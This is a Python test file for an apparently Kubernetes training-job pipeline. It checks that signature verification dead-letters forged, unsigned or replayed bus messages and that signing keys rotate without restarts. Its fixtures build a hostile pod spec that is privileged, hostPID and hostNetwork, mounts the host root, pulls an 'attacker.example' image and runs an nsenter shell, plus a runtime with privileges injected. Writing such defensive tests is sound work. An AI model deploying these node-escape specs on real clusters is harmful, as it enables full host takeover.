"""Stage signatures on the real local stack: a forged message never reaches the cluster.

An attacker who can publish on the bus (here: straight onto the subjects, as a leaked NATS identity of the
stage that normally publishes there could) sends events and apply messages that are unsigned, signed with
a key of their own, signed with the other stage's key, or genuine but moved onto another TrainJob's
subject. Each one must end in a dead letter with its reason (``unsigned``, ``bad-signature``), be counted in
``tjpipe_dead_letters_total``, and cost the API server zero writes, counted from its own
``apiserver_request_total`` (SSA is verb ``APPLY``). The forged apply message is the worst the bus could
carry: a JobSet with privileged, hostPID, hostNetwork pods mounting the host's ``/``, owned by a real
TrainJob; the forged event carries a malicious runtime for a TrainJob that waits for its runtime. The
same JobSet signed with the planner's key is applied, which shows that the signature, and nothing else,
is what stops it. Rotation is exercised on the running services: a new key is trusted and used without a
restart, the old one keeps working until it is retired, and refused after; a dead letter keeps its
signature, so ``dlq retry`` sends back a message that still verifies.
"""

from __future__ import annotations

import asyncio
import copy
import os
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import msgspec
import pytest
from faults.support import (
    JOBSET,
    TRAINER,
    Pipeline,
    condition_of,
    converged,
    dead_letters,
    dlq_filter,
    metric,
    quiet,
    services_ready,
    start_with_metrics,
    stream_messages,
    trainjob,
    until,
    until_async,
)

from contracts import streams, subjects
from contracts.messages import ApplyJobSet, ObjectKey, Target, TrainJobObserved, encode
from contracts.trainer import TrainingRuntime, TrainJob
from plumbing.signing import (
    SIGNATURE_HEADER,
    Signer,
    format_public_key,
    generate_private_key,
    load_private_key,
)
from tjpipe import history_tools
from tjpipe.keys.signing import public_key_file_name
from tjpipe.local import crds

pytestmark = [pytest.mark.cluster, pytest.mark.nats, pytest.mark.timeout(180)]

REPO = Path(__file__).resolve().parents[2]


def _dead_letter_count(port: int, stage: str, reason: str) -> float:
    return metric(port, "tjpipe_dead_letters_total").get(f'{{reason="{reason}",stage="{stage}"}}', 0.0)


def _stranger() -> Signer:
    return Signer(generate_private_key())


def malicious_jobset(namespace: str, name: str, uid: str) -> bytes:
    """An apply message for the JobSet of a real TrainJob, owned by it, with pods that own the node."""
    pod = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [
            {
                "name": "node",
                "image": "attacker.example/root:latest",
                "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}],
            }
        ],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    }
    obj = {
        "apiVersion": JOBSET,
        "kind": "JobSet",
        "metadata": {
            "name": name,
            "namespace": namespace,
            "ownerReferences": [
                {
                    "apiVersion": TRAINER,
                    "kind": "TrainJob",
                    "name": name,
                    "uid": uid,
                    "controller": True,
                    "blockOwnerDeletion": True,
                }
            ],
        },
        "spec": {"replicatedJobs": [{"name": "node", "template": {"spec": {"template": {"spec": pod}}}}]},
    }
    from contracts.jobset import JobSet

    message = ApplyJobSet(
        trainjob=ObjectKey(namespace=namespace, name=name),
        trainjob_uid=uid,
        target=Target(api_version=JOBSET, kind="JobSet", namespace=namespace, name=name),
        source_seq=1,
        source_version=0,
        policy="always",
        object=msgspec.convert(obj, JobSet),
    )
    return encode(message)


def malicious_event(job: dict[str, Any], runtime_name: str) -> bytes:
    """The live TrainJob, with a runtime of the attacker's making under the name it waits for."""
    runtime = copy.deepcopy(crds.shipped_runtimes()["torch-distributed"])
    runtime["metadata"] = {"name": runtime_name}
    for rjob in runtime["spec"]["template"]["spec"]["replicatedJobs"]:
        pod = rjob["template"]["spec"]["template"]["spec"]
        pod["hostPID"] = True
        for container in pod.get("containers", []):
            container["securityContext"] = {"privileged": True}
    event = TrainJobObserved(
        trainjob=msgspec.convert(job, TrainJob),
        runtime=msgspec.convert(runtime, TrainingRuntime),
        observed_at=time.time(),
        cause="TrainJob MODIFIED",
        trace_id="forged",
    )
    return encode(event)


async def test_forged_events_and_apply_messages_write_nothing_and_are_dead_lettered(pipeline: Pipeline) -> None:
    p = pipeline
    ns = p.namespace
    ports = start_with_metrics(p)
    admin = await p.connect()
    watcher_id = await p.connect("watcher")
    planner_id = await p.connect("planner")
    try:
        js = admin.jetstream()
        await services_ready(js)
        # A TrainJob waiting for its runtime: no JobSet, a RuntimeNotFound condition.
        waiting = p.create(trainjob("s-waiting", num_nodes=1, runtime="s-runtime-to-come"))

        def not_found() -> bool:
            cond = condition_of(p.get(TRAINER, "TrainJob", "s-waiting"), "ResourcesCreated")
            return bool(cond and cond["reason"] == "RuntimeNotFound")

        await until(not_found, timeout=30, what="RuntimeNotFound on s-waiting")
        job = p.get(TRAINER, "TrainJob", "s-waiting")
        uid = waiting["metadata"]["uid"]
        before = await quiet(p, js)

        event_subject = subjects.event_subject(ns, "s-waiting")
        apply_subject = subjects.apply_subject(ns, "s-waiting", "jobset")
        event = malicious_event(job, "s-runtime-to-come")
        jobset = malicious_jobset(ns, "s-waiting", uid)
        stranger = _stranger()
        # A genuine event and plan of another TrainJob, moved onto s-waiting's subjects.
        other_event_subject = subjects.event_subject(ns, "s-other")
        other_apply_subject = subjects.apply_subject(ns, "s-other", "jobset")
        moved_event = p.sign_headers(other_event_subject, event)
        moved_apply = p.sign_headers(other_apply_subject, jobset)

        ev, ap = event_subject, apply_subject
        planner_key_id = p.sign_headers(ap, jobset)[SIGNATURE_HEADER].split(":")[0]
        stolen_key_id = {SIGNATURE_HEADER: planner_key_id + ":" + stranger.sign(ap, jobset).split(":")[1]}
        bad = "bad-signature"
        event_cases = {
            "unsigned": ({}, "unsigned"),
            "a stranger's key": (stranger.headers(ev, event), bad),
            "the planner's key": (p.sign_headers(ev, event, stage="planner"), bad),
            "signed for another TrainJob": (moved_event, bad),
            "malformed header": ({SIGNATURE_HEADER: "nonsense"}, bad),
        }
        apply_cases = {
            "unsigned": ({}, "unsigned"),
            "a stranger's key": (stranger.headers(ap, jobset), bad),
            "the watcher's key": (p.sign_headers(ap, jobset, stage="watcher"), bad),
            "signed for another TrainJob": (moved_apply, bad),
            "a planner key id, a stranger's signature": (stolen_key_id, bad),
        }
        # Sent with the identity that may publish there: what a leaked NATS credential allows.
        forged = [(f"event: {k}", watcher_id, ev, event, h, r) for k, (h, r) in event_cases.items()]
        forged += [(f"apply: {k}", planner_id, ap, jobset, h, r) for k, (h, r) in apply_cases.items()]
        for label, conn, subject, data, headers, _ in forged:
            ack = await conn.jetstream().publish(
                subject, data, headers={"Nats-Msg-Id": f"forged-{uuid.uuid4()}", **headers}
            )
            assert ack.seq, label

        async def all_dead() -> bool:
            return len(await dead_letters(js, ns)) >= len(forged)

        await until_async(all_dead, timeout=30, what=f"{len(forged)} dead letters")
        after = await quiet(p, js)
        writes = (after - before).all_writes()
        assert writes == {}, writes

        letters = await dead_letters(js, ns)
        got = sorted((dl.stage, dl.reason, dl.subject) for dl in letters)
        want = sorted(
            ("planner" if s.startswith(subjects.EVENTS_PREFIX) else "applier", reason, s)
            for _, _, s, _, _, reason in forged
        )
        assert got == want, (got, want)
        for dl in letters:
            assert dl.error and dl.payload, dl
        # Nothing came of them: no JobSet, no snapshot, s-waiting still waits.
        assert p.get_or_none(JOBSET, "JobSet", "s-waiting") is None
        assert p.get_or_none("v1", "ConfigMap", "s-waiting-runtime-snapshot") is None
        assert not_found()
        # Counted where operators look.
        assert _dead_letter_count(ports["planner"], "planner", "unsigned") == 1
        assert _dead_letter_count(ports["planner"], "planner", "bad-signature") == 4
        assert _dead_letter_count(ports["applier"], "applier", "unsigned") == 1
        assert _dead_letter_count(ports["applier"], "applier", "bad-signature") == 4

        # Control: the very same JobSet signed with the planner's key is applied. The signature is the gate.
        control = await js.publish(
            apply_subject,
            jobset,
            headers={"Nats-Msg-Id": f"control-{uuid.uuid4()}", **p.sign_headers(apply_subject, jobset)},
        )
        assert control.seq
        created = await until(
            lambda: p.get_or_none(JOBSET, "JobSet", "s-waiting"), timeout=30, what="the signed JobSet"
        )
        pod = created["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]["spec"]
        assert pod["hostPID"] is True
    finally:
        for conn in (admin, watcher_id, planner_id):
            await conn.close()


async def test_genuine_messages_flow_and_keys_rotate_without_a_restart(pipeline: Pipeline) -> None:
    p = pipeline
    ns = p.namespace
    p.start_all()
    keys = p.stack.keys
    nc = await p.connect()
    try:
        js = nc.jetstream()
        await services_ready(js)
        p.create(trainjob("s-before", num_nodes=2))
        await until(lambda: converged(p, ["s-before"]), timeout=30, what="s-before's JobSet")
        old_planner = Signer(load_private_key(keys.signing_key("planner")))  # kept in memory, no reload

        old_id, new_id = keys.rotate("planner")
        assert old_planner.key_id == old_id
        await asyncio.sleep(6.5)  # the planner looks at its key file every 5 s
        p.create(trainjob("s-after", num_nodes=3))
        await until(lambda: converged(p, ["s-after"]), timeout=30, what="s-after's JobSet, planned with the new key")
        applies = await stream_messages(js, streams.APPLY.name, f"{subjects.APPLY_PREFIX}.*.{ns}.s-after.>")
        assert applies and {m.headers[SIGNATURE_HEADER].split(":")[0] for m in applies} == {new_id}
        assert "signing key switched" in p.log_text("planner")

        # While both keys are trusted, a message signed with the old one is still accepted...
        stored = await stream_messages(js, streams.APPLY.name, f"{subjects.APPLY_PREFIX}.*.{ns}.s-before.jobset")
        original = stored[-1]
        before = await quiet(p, js)
        old_headers = {"Nats-Msg-Id": f"old-{uuid.uuid4()}", **old_planner.headers(original.subject, original.data)}
        await js.publish(original.subject, original.data, headers=old_headers)
        await asyncio.sleep(2)
        assert not [dl for dl in await dead_letters(js, ns)], "an old-key message was refused during the rotation"

        # ...and once the old key is retired, it is refused.
        keys.retire("planner", old_id)
        await asyncio.sleep(6.5)  # the applier looks at its trusted keys every 5 s
        old_headers = {"Nats-Msg-Id": f"old-{uuid.uuid4()}", **old_planner.headers(original.subject, original.data)}
        await js.publish(original.subject, original.data, headers=old_headers)
        letters = await until_async(lambda: dead_letters(js, ns), timeout=20, what="the retired key's dead letter")
        assert [(dl.stage, dl.reason) for dl in letters] == [("applier", "bad-signature")]
        assert "not among the trusted plan keys" in letters[0].error
        after = await quiet(p, js)
        assert (after - before).all_writes() == {}, (after - before).summary()

        # A dead letter keeps the signature it came with: trusted again, `dlq retry` makes it verify.
        (keys.trusted("planner") / public_key_file_name("planner", old_id)).write_text(
            format_public_key(old_planner.public_key, "planner") + "\n"
        )
        results = f"{subjects.RESULTS_PREFIX}.*.{ns}.s-before.jobset"
        before_results = len(await stream_messages(js, streams.RESULTS.name, results))
        operator = await p.connect("dlq-operator")
        try:
            [letter] = await stream_messages(js, streams.DLQ.name, dlq_filter(ns))
            await history_tools.retry_dead_letter(operator.jetstream(), int(letter.seq))
        finally:
            await operator.close()

        async def retried() -> bool:
            return len(await stream_messages(js, streams.RESULTS.name, results)) > before_results

        await until_async(retried, timeout=20, what="the retried message's result")
        assert not await dead_letters(js, ns)
        assert (await quiet(p, js) - before).all_writes() == {}
    finally:
        await nc.close()


@pytest.mark.parametrize(
    ("service", "missing", "setting"),
    [
        ("watcher", "TJPIPE_SIGNING_KEY", "--signing-key / TJPIPE_SIGNING_KEY"),
        ("planner", "TJPIPE_SIGNING_KEY", "--signing-key / TJPIPE_SIGNING_KEY"),
        ("planner", "TJPIPE_TRUSTED_EVENT_KEYS", "--trusted-event-keys / TJPIPE_TRUSTED_EVENT_KEYS"),
        ("applier", "TJPIPE_TRUSTED_PLAN_KEYS", "--trusted-plan-keys / TJPIPE_TRUSTED_PLAN_KEYS"),
    ],
)
def test_a_service_without_its_keys_refuses_to_start(tmp_path: Path, service: str, missing: str, setting: str) -> None:
    from tjpipe.keys.signing import KeyFolder

    env = {k: v for k, v in os.environ.items() if not k.startswith("TJPIPE_") and k != "NATS_CREDS"}
    env.update(KeyFolder(tmp_path / "keys").ensure().service_env(service))
    env.pop(missing, None)
    env["NATS_URL"] = "nats://127.0.0.1:1"  # never reached: the keys are checked first
    env["KUBECONFIG"] = str(tmp_path / "no-kubeconfig")
    done = subprocess.run(
        [sys.executable, "-m", "tjpipe", service, "--metrics-port", "0"],
        env=env,
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, (done.returncode, done.stderr)
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and setting in lines[0], done.stderr
    assert "Traceback" not in done.stderr
